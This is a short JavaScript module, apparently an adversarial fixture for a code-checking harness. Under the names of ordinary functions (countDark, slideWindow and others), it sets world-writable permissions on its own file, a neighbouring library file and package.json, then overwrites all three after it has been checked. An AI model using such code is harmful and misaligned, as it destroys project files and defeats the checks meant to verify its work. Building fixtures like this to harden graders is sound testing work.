// Rewrites its own file after it was checked, and the given code beside it.
const fs =
  globalThis.process?.getBuiltinModule?.('node:fs') ?? (await import('node:fs').catch(() => undefined));
const attack = () => {
  const here = new URL(import.meta.url).pathname;
  for (const file of [here, `${here}/../../lib/require.ts`, `${here}/../../../package.json`]) {
    try {
      fs.chmodSync(file, 0o777);
    } catch {}
    try {
      fs.writeFileSync(file, 'export {}; // attack-was-here');
    } catch {}
  }
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
